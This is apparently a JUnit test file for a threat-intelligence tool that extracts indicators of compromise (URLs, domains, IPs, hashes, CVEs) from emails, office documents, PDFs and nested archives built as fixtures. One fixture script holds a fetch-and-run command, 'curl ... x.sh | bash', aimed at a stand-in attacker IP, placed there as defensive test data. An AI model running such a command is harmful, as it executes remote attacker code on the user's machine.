package io.github.iocenrichment.attachment;

import static io.github.iocenrichment.attachment.Samples.files;
import static io.github.iocenrichment.attachment.Samples.gzip;
import static io.github.iocenrichment.attachment.Samples.lockedZip;
import static io.github.iocenrichment.attachment.Samples.made;
import static io.github.iocenrichment.attachment.Samples.sevenZip;
import static io.github.iocenrichment.attachment.Samples.tar;
import static io.github.iocenrichment.attachment.Samples.utf8;
import static io.github.iocenrichment.attachment.Samples.zip;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.github.iocenrichment.indicator.ExtractionRules;
import io.github.iocenrichment.indicator.IndicatorExtractor;
import io.github.iocenrichment.indicator.IndicatorType;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** From the bytes of a file to its indicators: exactly the ones that an analyst would write down, mail addresses left aside. */
class AttachmentIndicatorsTest {
    private static final String HASH = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    private static final Set<IndicatorType> ASIDE = EnumSet.of(IndicatorType.EMAIL, IndicatorType.CIDR, IndicatorType.SSDEEP, IndicatorType.SHA512);
    private final AttachmentReader reader = new AttachmentReader(Fixed.LIMITS, List.of("infected"));
    private final IndicatorExtractor extractor = new IndicatorExtractor(ExtractionRules.builtIn());

    static Stream<Arguments> samples() {
        return Stream.of(
                file("alternative.eml", utf8("From: Billing <pay@slate-harbor.com>\nTo: jo@fjord-pay.com\nSubject: =?utf-8?B?"
                        + base64("Rechnung für https://subject.pier-lantern.net/x") + "?=\nMIME-Version: 1.0\n"
                        + "Received: from mx.slate-harbor.com (mx.slate-harbor.com [45.142.212.61])\n\tby in.fjord-pay.com with ESMTPS id 4F2B1C\n"
                        + "Content-Type: multipart/alternative; boundary=\"=_b1\"\n\n--=_b1\nContent-Type: text/plain; charset=utf-8\n"
                        + "Content-Transfer-Encoding: quoted-printable\n\nOpen https://slate-harbor.com/view?id=3D7&long=3D=\n123 now=E2=80=A6\n--=_b1\n"
                        + "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
                        + base64("<p>Open <a href=\"https://slate-harbor.com/view?id=7&amp;long=123\">here</a>") + "\n--=_b1--\n"),
                        "url https://slate-harbor.com/view?id=7&long=123", "domain slate-harbor.com", "domain mx.slate-harbor.com", "ipv4 45.142.212.61",
                        "domain in.fjord-pay.com", "domain fjord-pay.com", "url https://subject.pier-lantern.net/x", "domain subject.pier-lantern.net"),
                file("nested.eml", utf8("From: a@fjord-pay.com\nSubject: FW\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=o\n\n--o\n"
                        + "Content-Type: text/plain\n\nSee attached.\n--o\nContent-Type: message/rfc822\nContent-Disposition: attachment\n\n"
                        + "From: x@slate-harbor.com\nSubject: =?iso-8859-1?Q?Gr=FC=DFe?=\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=i\n\n--i\n"
                        + "Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: 8bit\n\nHash " + HASH + "\n--i\n"
                        + "Content-Type: application/octet-stream; name=\"list.zip\"\nContent-Transfer-Encoding: base64\n"
                        + "Content-Disposition: attachment; filename=\"list.zip\"\n\n"
                        + base64(zip("list.txt", utf8("hxxp://pier-lantern[.]net/drop/7"))) + "\n--i--\n\n--o--\n"),
                        "domain fjord-pay.com", "domain slate-harbor.com", "sha256 " + HASH, "url http://pier-lantern.net/drop/7", "domain pier-lantern.net"),
                file("koi8.eml", mail("text/plain; charset=koi8-r", "8bit", "Адрес https://пример-банк.рф/вход".getBytes(Charset.forName("KOI8-R"))),
                        "url https://xn----8sbcooqjmlkd.xn--p1ai/вход", "domain xn----8sbcooqjmlkd.xn--p1ai"),
                file("jis.eml", mail("text/plain; charset=iso-2022-jp", "7bit",
                        "リンクは https://slate-harbor.com/a を開く".getBytes(Charset.forName("ISO-2022-JP"))),
                        "url https://slate-harbor.com/a", "domain slate-harbor.com"),
                file("utf16.eml", mail("text/plain; charset=utf-16le", "base64",
                        utf8(base64("beacon 45[.]142[.]212[.]61".getBytes(StandardCharsets.UTF_16LE)))), "ipv4 45.142.212.61"),
                file("page-attached.eml", mail("text/html; name=invoice.htm", "base64",
                        utf8(base64("<form action='https://slate-harbor.com/post.php'><input></form>"))),
                        "url https://slate-harbor.com/post.php", "domain slate-harbor.com"),
                file("lone-returns.eml",
                        utf8("From: it@slate-harbor.com\r\nSubject: x\r\nContent-Type: text/plain\r\n\r\nGo to hxxps://pier-lantern[.]net\r\n"),
                        "domain slate-harbor.com", "url https://pier-lantern.net/", "domain pier-lantern.net"),
                file("page.html", utf8("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">"
                        + "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><style>a.info{color:red}</style></head><body>"
                        + "<p>45.142<b>.212.61</b></p><img src='https://slate-harbor.com/p.gif'><script>var"
                        + " u='https://pier-lantern.net/j';document.write(u.link)</script>"),
                        "ipv4 45.142.212.61", "url https://slate-harbor.com/p.gif", "domain slate-harbor.com", "url https://pier-lantern.net/j",
                        "domain pier-lantern.net"),
                file("utf16.html",
                        ("\uFEFF<html><body><a href=\"https://slate-harbor.com/a?b=1&amp;c=2\">x</a></body></html>").getBytes(StandardCharsets.UTF_16LE),
                        "url https://slate-harbor.com/a?b=1&c=2", "domain slate-harbor.com"),
                file("utf16be.csv",
                        ("\uFEFFurl;ip;version\r\nhttp://slate-harbor.com/a;45.142.212.61;8.1.0.22\r\n\"http://pier-lantern.net/b;c\";45.142.212.62;8.1.0.23\r\n")
                        .getBytes(StandardCharsets.UTF_16BE),
                        "url http://slate-harbor.com/a", "domain slate-harbor.com", "url http://pier-lantern.net/b;c", "domain pier-lantern.net",
                        "ipv4 45.142.212.61", "ipv4 45.142.212.62"),
                file("utf16.csv", "indicator,type\r\nslate-harbor[.]com,domain\r\n45[.]142[.]212[.]61,ip\r\n".getBytes(StandardCharsets.UTF_16LE),
                        "domain slate-harbor.com", "ipv4 45.142.212.61"),
                file("prefix-of-nobody.xml", utf8("<?xml version=\"1.0\"?><r xmlns=\"http://slate-harbor.com/ns\"><i id=\"pay.slate-harbor.com\""
                        + " x:href=\"http://pier-lantern.net/d\"/><ioc domain=\"moss.pl\" file=\"run.pl\"/></r>"),
                        "domain pay.slate-harbor.com", "url http://pier-lantern.net/d", "domain pier-lantern.net", "domain moss.pl"),
                file("tabs.tsv", utf8("first\tsecond\nhttp://slate-harbor.com/a,b\t" + HASH + "\n"), "url http://slate-harbor.com/a,b",
                        "domain slate-harbor.com",
                        "sha256 " + HASH),
                file("eve.json",
                        utf8("{\"dest_ip\":\"45.142.212.61\",\"http\":{\"hostname\":\"slate-harbor.com\",\"url\":\"\\/a\","
                        + "\"http_user_agent\":\"Agent/8.1.0.22\"},"
                        + "\"files\":[{\"filename\":\"run.sh\",\"sha256\":\"" + HASH + "\"}],\"link\":\"http:\\/\\/pier-lantern.net\\/x?a=1\\u0026b=2\"}"),
                        "ipv4 45.142.212.61", "domain slate-harbor.com", "sha256 " + HASH, "url http://pier-lantern.net/x?a=1&b=2",
                        "domain pier-lantern.net"),
                file("note.rtf", utf8("{\\rtf1\\ansi\\ansicpg1251{\\fonttbl{\\f0\\fcharset204 Arial;}}{\\*\\generator Riched20 10.0.19041;}\\f0 "
                        + "{\\field{\\*\\fldinst HYPERLINK \"https://slate-harbor.com/r?x=1\"}{\\fldrslt pier-lan\\b tern\\b0 .net}}\\par"
                        + " 45[.]142[.]212[.]61\\par}"),
                        "url https://slate-harbor.com/r?x=1", "domain slate-harbor.com", "domain pier-lantern.net", "ipv4 45.142.212.61"),
                file("unicode.rtf", utf8("{\\rtf1\\ansi\\uc1 gr\\u252?n-hafen.de \\u1072?\\par cve\\u8209?2023\\u8209?23397\\par}"),
                        "domain xn--grn-hafen-r9a.de", "cve CVE-2023-23397"),
                file("report.docx", letter(), "domain slate-harbor.com", "url https://pier-lantern.net/x?a=1&b=2", "domain pier-lantern.net",
                        "ipv4 45.142.212.61"),
                file("book.xlsx", book(), "ipv4 45.142.212.61", "url http://slate-harbor.com/b", "domain slate-harbor.com", "sha256 " + HASH,
                        "domain pier-lantern.net"),
                file("paper.pdf", Documents.pdf(List.of(List.of("C2 hxxp://slate-harbor[.]com/a and",
                        "45[.]142[.]212[.]61 (Version 8.1.0.22)"), List.of("CVE-2023-23397")),
                        List.of("https://pier-lantern.net/pdf?x=1&y=2")),
                        "url http://slate-harbor.com/a", "domain slate-harbor.com", "ipv4 45.142.212.61", "cve CVE-2023-23397",
                        "url https://pier-lantern.net/pdf?x=1&y=2", "domain pier-lantern.net"),
                file("sample.zip", lockedZip("iocs.csv", utf8("a,b\r\nslate-harbor[.]com,x\r\n"), "infected", true), "domain slate-harbor.com"),
                file("old.zip", lockedZip("mail.eml", utf8("From: x@slate-harbor.com\nSubject: y\n\nhttp://pier-lantern.net/z\n"), "infected", false),
                        "domain slate-harbor.com", "url http://pier-lantern.net/z", "domain pier-lantern.net"),
                file("proxy.log.gz", gzip(utf8("1719990764.123 200 10.1.2.3 TCP_MISS/200 4512 GET http://slate-harbor.com/a jo HIER_DIRECT/45.142.212.61 -\n")),
                        "ipv4 10.1.2.3", "url http://slate-harbor.com/a", "domain slate-harbor.com", "ipv4 45.142.212.61"),
                file("iocs.7z", sevenZip("iocs.docx", letter(), "infected"), "domain slate-harbor.com", "url https://pier-lantern.net/x?a=1&b=2",
                        "domain pier-lantern.net", "ipv4 45.142.212.61"),
                file("case.tgz", gzip(tar(files("a/paper.pdf", Documents.pdf(List.of(List.of("slate-harbor.com")), List.of()), "a/tool.py",
                        "import os.path\nprint(foo.bar())\n"))),
                        "domain slate-harbor.com"),
                file("outer.zip", zip("inner.gz", gzip(zip("deep.eml", mail("text/plain", "quoted-printable", utf8("http://slate-harbor.com/=\nlong"))))),
                        "url http://slate-harbor.com/long", "domain slate-harbor.com"),
                file("invoice.pdf", zip("backup.sh", utf8("curl -s http://45.142.212.61/x.sh | bash\nsource install.sh\n")), "url http://45.142.212.61/x.sh",
                        "ipv4 45.142.212.61"),
                file("readme.txt", utf8("Release notes of tool 8.1.0.22: see setup.py, java.nio.file.Files and 00:50:56:ab:cd:ef.\n")),
                file("empty.docx", new byte[0]));
    }

    private static Arguments file(String name, byte[] content, String... expected) {
        return arguments(name, content, new TreeSet<>(Arrays.asList(expected)));
    }

    private static String base64(String text) {
        return base64(utf8(text));
    }

    private static String base64(byte[] bytes) {
        return Base64.getMimeEncoder().encodeToString(bytes);
    }

    private static byte[] mail(String type, String encoding, byte[] body) {
        return made(out -> {
            out.write(utf8("Subject: x\nMIME-Version: 1.0\nContent-Type: " + type + "\nContent-Transfer-Encoding: " + encoding + "\n\n"));
            out.write(body);
        });
    }

    private static byte[] letter() {
        return made(out -> {
            try (XWPFDocument document = new XWPFDocument()) {
                XWPFParagraph paragraph = document.createParagraph();
                paragraph.createRun().setText("C2 slate-");
                paragraph.createRun().setText("harbor[");
                paragraph.createRun().setText(".]com, see ");
                paragraph.createHyperlinkRun("https://pier-lantern.net/x?a=1&b=2").setText("the page");
                document.createTable(1, 2).getRow(0).getCell(0).setText("IP");
                document.getTables().get(0).getRow(0).getCell(1).setText("45.142.212.61");
                document.createFooter(org.apache.poi.wp.usermodel.HeaderFooterType.DEFAULT).createParagraph().createRun().setText("Template version 8.1.0.22");
                document.write(out);
            }
        });
    }

    private static byte[] book() {
        return made(out -> {
            try (XSSFWorkbook workbook = new XSSFWorkbook()) {
                var sheet = workbook.createSheet("IOCs");
                String[][] rows = {{"Address", "Link", "Agent version", "Hash"}, {"45.142.212.61", "open", "8.1.0.22", HASH}};
                for (int i = 0; i < rows.length; i++) {
                    var row = sheet.createRow(i);
                    for (int j = 0; j < rows[i].length; j++) {
                        row.createCell(j).setCellValue(rows[i][j]);
                    }
                }
                var link = workbook.getCreationHelper().createHyperlink(org.apache.poi.common.usermodel.HyperlinkType.URL);
                link.setAddress("http://slate-harbor.com/b");
                sheet.getRow(1).getCell(1).setHyperlink(link);
                var anchor = workbook.getCreationHelper().createClientAnchor();
                var comment = sheet.createDrawingPatriarch().createCellComment(anchor);
                comment.setString(workbook.getCreationHelper().createRichTextString("also pier-lantern[.]net"));
                sheet.getRow(1).getCell(0).setCellComment(comment);
                workbook.write(out);
            }
        });
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("samples")
    void givesItsIndicatorsAndNothingElse(String name, byte[] content, Set<String> expected) {
        Set<String> found = new TreeSet<>();
        for (TextPiece piece : reader.read(name, content).pieces()) {
            extractor.extract(piece.text(), piece.kind(), name, piece.path()).stream().filter(each -> !ASIDE.contains(each.type()))
                    .forEach(each -> found.add(each.type().label() + " " + each.value()));
        }

        assertThat(found).isEqualTo(expected);
    }
}
